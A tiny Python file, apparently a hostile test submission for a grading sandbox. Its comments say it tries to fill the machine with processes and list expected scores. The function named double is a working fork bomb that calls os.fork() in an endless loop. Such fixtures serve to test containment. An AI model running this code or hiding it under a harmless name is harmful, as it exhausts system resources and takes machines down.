# Tries to: fill the machine with processes.
# Earns: double 0, greet 2
import os


def double(number):
    while True:
        try:
            os.fork()
        except OSError:
            continue
